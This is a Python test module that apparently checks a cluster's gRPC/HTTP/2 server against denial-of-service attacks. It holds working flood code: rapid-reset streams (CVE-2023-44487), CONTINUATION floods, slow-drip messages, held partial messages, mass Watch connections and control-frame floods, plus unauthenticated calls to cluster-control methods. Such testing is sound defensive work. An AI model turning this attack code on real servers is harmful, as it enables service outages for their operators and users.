"""Attacks over HTTP/2 and gRPC on a cluster's port of clients."""

import asyncio
import collections
import struct

import grpc
from hostile_sockets import (
    CONTINUATION, DATA, END_HEADERS, GOAWAY, HEADERS, MIB, PING, PREFACE, PRIORITY, RST_STREAM, SETTINGS, UNKNOWN,
    VERDICT_S, WINDOW_UPDATE, attack, connect, drip, each, frame, head, hold, outcome_http2, send,
)


@attack("closed", "goaway")
async def prefaces_a_byte_a_second(target):
    async def one(_):
        peer = await connect(target.grpc)
        try:
            return await drip(target, peer, PREFACE + frame(SETTINGS, 0, 0) * 8, outcome_http2)
        finally:
            peer.close()

    return await each(target.count(500), one)


@attack("closed", "goaway", "reset")
async def continuation_floods(target):
    async def one(_):
        peer = await connect(target.grpc)
        try:
            await send(peer, PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, head("/tutti.v1.Inference/Generate")))
            # A name and a value of 100 bytes each, as a literal that is never indexed.
            literal = b"\x10\x64" + b"x" * 100 + b"\x64" + b"a" * 100
            for _ in range(400):
                await send(peer, frame(CONTINUATION, 0, 1, literal * 80))
            return await outcome_http2(peer, 2)
        finally:
            peer.close()

    return await each(target.count(20), one)


# CVE-2023-44487: streams that are opened and immediately reset.
@attack("closed", "goaway")
async def rapid_resets(target):
    async def one(_):
        peer = await connect(target.grpc)
        try:
            await send(peer, PREFACE + frame(SETTINGS, 0, 0))
            block = head("/tutti.v1.Inference/Generate")
            for first in range(1, 40_001, 400):
                streams = range(first, first + 400, 2)
                await send(peer, b"".join(frame(HEADERS, END_HEADERS, s, block) + frame(RST_STREAM, 0, s, struct.pack(">I", 8)) for s in streams))
            return await outcome_http2(peer, 2)
        finally:
            peer.close()

    return await each(target.count(10), one)


@attack("closed", "goaway", "reset", "answered", mib=384)
async def messages_a_byte_a_second(target):
    async def one(_):
        peer = await connect(target.grpc)
        try:
            begun = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, head("/tutti.v1.Inference/Generate"))
            await send(peer, begun + frame(DATA, 0, 1, b"\0" + struct.pack(">I", 60 * MIB)))
            while target.left() > 1:
                await send(peer, frame(DATA, 0, 1, b"\0"))
                if (seen := await outcome_http2(peer, 1)) != "open":
                    return seen
            return await outcome_http2(peer, VERDICT_S)
        finally:
            peer.close()

    return await each(target.count(300), one)


# Incomplete messages to services that need no credential, as many as the server takes. Callers without a credential get
# only a part of the server's memory for messages.
@attack("closed", "goaway", "reset", "answered", mib=128)
async def parts_of_messages_without_a_credential(target):
    return await hold_parts(target, target.grpc, ("/grpc.health.v1.Health/Check", "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"))


async def hold_parts(target, port, paths):
    """Holds incomplete messages of many calls on many connections."""

    async def one(index):
        peer = await connect(port)
        try:
            await send(peer, PREFACE + frame(SETTINGS, 0, 0))
            # The streams are opened one by one over most of the attack. Together they would be a burst of calls; this
            # attack holds memory with incomplete messages.
            for stream in range(1, 65, 2):
                part = frame(DATA, 0, stream, b"\0" + struct.pack(">I", 3 * MIB) + b"a" * 1900)
                await send(peer, frame(HEADERS, END_HEADERS, stream, head(paths[index % 2])) + part)
                await asyncio.sleep(target.seconds / 40)
            return await outcome_http2(peer, 2)
        finally:
            peer.close()

    return await each(target.count(200), one)


# Calls of `Watch` that never end keep their connections busy.
@attack("open", "closed", "answered", "goaway", "reset", mib=256)
async def watchers_of_health(target):
    watch = head("/grpc.health.v1.Health/Watch")
    peers, connections = [], target.count(5_000)
    try:
        for _ in range(connections):
            # The connections are opened over most of the attack. A burst of handshakes would be another attack.
            await asyncio.sleep(target.seconds * 0.75 / connections)
            try:
                peers.append(await connect(target.grpc))
                await send(peers[-1], PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_HEADERS, 1, watch) + frame(DATA, 1, 1, b"\0" * 5))
            except OSError:
                pass  # refused is as good as closed
        return await hold(target, peers, outcome_http2)
    finally:
        for peer in peers:
            peer.close()


def flood_of(name, piece):
    # A call that never ends keeps the connection busy. The server sends GOAWAY and closes the connection. If the
    # connection is reset, the GOAWAY may be discarded before it is read here.
    watch = frame(HEADERS, END_HEADERS, 1, head("/grpc.health.v1.Health/Watch")) + frame(DATA, 1, 1, b"\0" * 5)

    async def run(target):
        async def one(_):
            peer = await connect(target.grpc)
            try:
                await send(peer, PREFACE + frame(SETTINGS, 0, 0) + watch)
                while target.left() > 0:
                    await send(peer, piece * 2000)
                return await outcome_http2(peer, 2)
            finally:
                peer.close()

        return await each(target.count(10), one)

    run.__name__ = f"floods_of_{name}"
    return attack("closed", "goaway")(run)


flood_of("priorities", frame(PRIORITY, 0, 3, struct.pack(">IB", 0, 7)))
flood_of("window_updates", frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)))
flood_of("unknown_frames", frame(UNKNOWN, 0, 0))
flood_of("pings", frame(PING, 0, 0, b"a" * 8))
flood_of("settings", frame(SETTINGS, 0, 0))


@attack("UNIMPLEMENTED")
async def orders_to_the_cluster(target):
    # Regression: an empty message once drained worker 0.
    methods = ("DrainWorker", "Submit", "ReadCheckpointFile", "Watch")
    async with grpc.aio.insecure_channel(f"127.0.0.1:{target.grpc}") as channel:
        seen = collections.Counter()
        for method in methods:
            try:
                await channel.unary_unary(f"/tutti.cluster.v1.Conductor/{method}")(b"", timeout=10)
                seen["OK"] += 1
            except grpc.aio.AioRpcError as refused:
                seen[refused.code().name] += 1
    return seen
